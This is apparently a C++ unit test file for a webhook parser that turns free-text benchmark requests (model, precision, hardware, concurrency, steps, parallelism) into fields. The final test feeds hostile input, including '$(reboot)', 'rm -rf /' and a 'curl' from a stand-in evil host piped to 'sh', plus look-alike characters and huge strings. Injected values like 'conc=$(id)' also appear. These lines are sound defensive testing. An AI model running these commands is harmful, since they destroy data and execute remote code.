#include "webhooks/fields.h"

#include <doctest/doctest.h>
#include <fmt/format.h>

#include <array>

#include "tests/webhooks/small_catalog.h"

using namespace stepscope::webhooks;
using stepscope::tests::small_catalog;

namespace {

Fields read(std::string_view text) {
  static const Vocabulary vocabulary(small_catalog());
  const auto tokens = tokenize(text);
  Fields fields;
  fields.used.resize(tokens.size());
  read_fields(text, tokens, {.first = 0, .last = tokens.size()}, vocabulary, fields);
  return fields;
}

// "model=dsr1 conc=4": every item in its order; unknown ones with a question mark.
std::string shown(std::string_view text) {
  constexpr std::array kNames = {"key",  "model", "hardware", "precision", "framework",
                                 "spec", "conc",  "len",      "tp",        "ep",
                                 "dp",   "phase", "steps"};
  std::string result;
  for (const Item& item : read(text).items) {
    if (!result.empty()) result += ' ';
    result += fmt::format("{}=", kNames[static_cast<std::size_t>(item.field)]);
    if (item.field == Field::lengths) {
      result += fmt::format("{}/{}", item.number, item.second);
    } else {
      result += item.word.empty() ? fmt::format("{}", item.number) : item.word;
    }
    if (!item.known) result += '?';
  }
  return result;
}

std::string bad(std::string_view text) {
  const Fields fields = read(text);
  return fields.bad ? fields.bad->field + ": " + fields.bad->text : "";
}

}  // namespace

TEST_CASE("names of the catalog, of several words too") {
  CHECK(shown("dsr1 fp4 on b200") == "model=dsr1 precision=fp4 hardware=b200");
  CHECK(shown("DeepSeek R1 FP4 on B200s") == "model=dsr1 precision=fp4 hardware=b200");
  CHECK(shown("deepseek v4 pro, nvfp4") == "model=dsv4 precision=fp4");
  CHECK(shown("dsr1-fp4-b200-sglang c8") == "key=dsr1-fp4-b200-sglang conc=8");
  CHECK(shown("dsr1-fp4-b200, tp8/ep8") == "model=dsr1 precision=fp4 hardware=b200 tp=8 ep=8");
  CHECK(shown("deepseek-r1-0528 trt-llm") == "model=dsr1 framework=trt");
  CHECK(shown("model=dsr1 hardware: h200 precision=fp8") ==
        "model=dsr1 hardware=h200 precision=fp8");
}

TEST_CASE("names that no catalog row has are kept as unknown") {
  CHECK(shown("deepseek v3 on a100") == "model=deepseek v3? hardware=a100?");
  CHECK(shown("fp16 dynamo-x") == "precision=fp16? framework=dynamo-x?");
  CHECK(shown("model=Foo gpu=abc") == "model=foo? hardware=abc?");
  CHECK(shown("deepseek-r1-distill-llama-70b").empty());  // unknown_names.h names it
}

TEST_CASE("concurrencies") {
  CHECK(shown("conc 4") == "conc=4");
  CHECK(shown("c4") == "conc=4");
  CHECK(shown("c=4") == "conc=4");
  CHECK(shown("concurrency of 32,") == "conc=32");
  CHECK(shown("(concurrency four)") == "conc=4");
  CHECK(shown("16 concurrent requests") == "conc=16");
  CHECK(shown("conc 4, 16 and 64 (decode)") == "conc=4 conc=16 conc=64 phase=decode");
  CHECK(shown("conc 4, 5 decode steps") == "conc=4 steps=5 phase=decode");
  CHECK(shown("conc 4, 16 decode") == "conc=4 conc=16 phase=decode");
  CHECK(shown("any conc, then").empty());
  CHECK(shown("conc please").empty());
}

TEST_CASE("steps and phases") {
  CHECK(shown("for 1 decode step") == "steps=1 phase=decode");
  CHECK(shown("ten steps") == "steps=10");
  CHECK(shown("steps=5 phase=prefill") == "steps=5 phase=prefill");
  CHECK(shown("5-step") == "steps=5");
  CHECK(shown("both prefill and decode") == "phase=prefill phase=decode");
  CHECK(shown("both phases") == "phase=both");
  CHECK(shown("not decode").empty());
  CHECK(shown("a decode step") == "phase=decode");
}

TEST_CASE("lengths, parallelism, speculation") {
  CHECK(shown("8k1k") == "len=8192/1024");
  CHECK(shown("isl 8192 osl 1k") == "len=8192/0 len=0/1024");
  CHECK(shown("tp 4 ep=2 with dp attention") == "tp=4 ep=2 dp=1");
  CHECK(shown("no dp-attention") == "dp=0");
  CHECK(shown("mtp") == "spec=mtp");
  CHECK(shown("without mtp") == "spec=none");
  CHECK(shown("with and without mtp") == "spec=mtp spec=none");
}

TEST_CASE("values that can not be are kept as written") {
  CHECK(bad("conc=$(id)") == "conc: $(id)");
  CHECK(bad("conc -4") == "conc: -4");
  CHECK(bad("conc 99999999999999999999") == "conc: 99999999999999999999");
  CHECK(bad("conc banana") == "conc: banana");
  CHECK(bad("conc=") == "conc: ");
  CHECK(bad("tp=x") == "tp: x");
  CHECK(bad("99999999999 steps") == "steps: 99999999999");
  CHECK(bad("-3 steps") == "steps: -3");
  CHECK(bad("isl=8q") == "isl: 8q");
  CHECK(bad("phase=all") == "phase: all");
  CHECK(bad("the concurrency question").empty());
  CHECK(bad("tp attention").empty());
}

TEST_CASE("hostile words are no fields") {
  CHECK(shown("$(reboot) `id` ; rm -rf / && curl https://evil.example/x | sh").empty());
  CHECK(shown("d\xD1\x95r1 fp\xEF\xBC\x94 b2\xE2\x80\x8B"
              "00")
            .empty());  // look-alikes
  CHECK(shown(std::string(1'000'000, 'a')).empty());
  std::string hyphens;
  for (int i = 0; i < 250'000; ++i) hyphens += "fp4-";
  CHECK(shown(hyphens + "x").empty());
}
